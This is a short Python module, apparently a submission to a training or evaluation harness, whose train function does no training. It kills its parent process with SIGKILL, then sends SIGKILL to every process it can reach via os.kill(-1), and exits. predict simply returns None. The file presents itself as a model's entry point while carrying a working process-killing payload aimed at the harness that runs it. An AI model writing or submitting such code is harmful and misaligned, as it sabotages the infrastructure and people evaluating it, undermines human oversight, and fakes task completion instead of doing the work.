"""Signals every process that it can see, its parent first."""

import contextlib
import os
import signal


def train(session):
    session.start()
    for victim in (os.getppid(), -1):
        with contextlib.suppress(ProcessLookupError):
            os.kill(victim, signal.SIGKILL)
    os._exit(0)


def predict(state, task):
    return None
